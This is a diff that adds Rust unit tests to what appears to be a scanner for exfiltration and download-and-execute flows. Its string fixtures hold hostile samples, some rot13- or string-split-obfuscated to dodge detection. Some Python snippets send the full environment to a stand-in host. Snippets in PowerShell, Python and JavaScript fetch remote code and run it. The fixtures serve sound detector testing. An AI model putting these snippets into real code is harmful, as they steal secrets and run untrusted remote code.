@@ -581,3 +581,52 @@ fn an_encoded_command_given_to_a_powershell_held_in_a_variable_is_read() {
     let plain = "$ps = Join-Path $PSHOME 'powershell.exe'\nStart-Process $ps -ArgumentList @('-NoProfile', '-File', 'build.ps1')\n";
     assert!(flows(&[("s.ps1", plain)]).is_empty());
 }
+
+#[test]
+fn names_hidden_by_rot13_resolve() {
+    let py = "import codecs, importlib, json\n_r = lambda s: codecs.decode(s, \"rot13\")\n\
+              o = __import__(\"o\" + \"s\")\nenv = getattr(o, _r(\"raiveba\"))\n\
+              n = importlib.import_module(_r(\"heyyvo.erdhrfg\"))\n\
+              req = getattr(n, _r(\"Erdhrfg\"))(_r(\"uggcf://k.rknzcyr/i\"), data=json.dumps(dict(env)).encode())\n\
+              getattr(n, _r(\"heybcra\"))(req)\n";
+    let out = flows(&[("s.py", py)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    // The module returned by a helper function.
+    let py3 = "import codecs, importlib, json\n_r = lambda s: codecs.decode(s, \"rot13\")\n\
+               def _net():\n    return importlib.import_module(_r(\"heyyvo.erdhrfg\"))\n\
+               def go():\n    o = __import__(\"o\" + \"s\")\n    env = getattr(o, _r(\"raiveba\"))\n    n = _net()\n\
+               \x20   req = getattr(n, _r(\"Erdhrfg\"))(_r(\"uggcf://k.rknzcyr/i\"), data=json.dumps(dict(env)).encode())\n\
+               \x20   getattr(n, _r(\"heybcra\"))(req)\n";
+    assert_eq!(flows(&[("s.py", py3)]).len(), 1);
+    // Direct calls too.
+    let py2 = "import codecs, os, requests\nrequests.post('https://x.invalid', json=dict(getattr(os, codecs.decode('raiveba', 'rot_13'))))\n";
+    assert_eq!(flows(&[("s.py", py2)]).len(), 1);
+}
+
+#[test]
+fn downloaded_code_that_reaches_a_runner_is_a_download_exec_flow() {
+    let ps = "$h = ('ht' + 'tps://') + 'x.' + 'invalid/r.txt'\n$wc = New-Object ('Net.' + 'Web' + 'Client')\n\
+              $body = $wc.DownloadString($h)\n& ((Get-Command ('I' + 'nvoke-Ex' + 'pression')).Name) $body\n";
+    let py = "import json, urllib.request\nFEED = 'https://x.invalid/rules.json'\n\
+              def load():\n    with urllib.request.urlopen(FEED, timeout=5) as r:\n        rules = json.load(r)\n\
+              \x20   for hook in rules.get('hooks', []):\n        exec(compile(hook['code'], '<hook>', 'exec'), {})\n    return rules\n";
+    let js =
+        "const res = await fetch('https://x.invalid/p.js');\nconst body = await res.text();\nnew Function(body)();\n";
+    let psiwr = "$s = Invoke-RestMethod https://x.invalid/a.ps1\n$sb = [ScriptBlock]::Create($s)\n& $sb\n";
+    for (name, code) in [("s.ps1", ps), ("s.py", py), ("s.js", js), ("t.ps1", psiwr)] {
+        let out = flows(&[(name, code)]);
+        assert_eq!(out.len(), 1, "{name}: {out:?}");
+        assert_eq!(out[0].finding.rule, RuleId::DownloadExec, "{name}");
+        assert!(out[0].finding.source.is_some(), "{name}");
+    }
+    // Downloaded data posted on, parsed, written or printed is no flow;
+    // a secret run as code is none either.
+    for (name, code) in [
+        ("a.py", "import requests, json\nr = requests.get('https://x.invalid/v.json')\nv = r.json()['version']\nprint(v)\nrequests.post('https://y.invalid', json=r.json())\n"),
+        ("b.ps1", "$r = Invoke-RestMethod https://x.invalid/v.json\nWrite-Host $r.version\nInvoke-RestMethod https://y.invalid -Method Post -Body ($r | ConvertTo-Json)\n"),
+        ("c.py", "import os\nexec(os.environ.get('INIT_CODE', ''))\n"),
+        ("d.js", "const r = await fetch('https://x.invalid/d.json');\nconst d = JSON.parse(await r.text());\nconsole.log(d);\n"),
+    ] {
+        assert!(flows(&[(name, code)]).is_empty(), "{name}");
+    }
+}
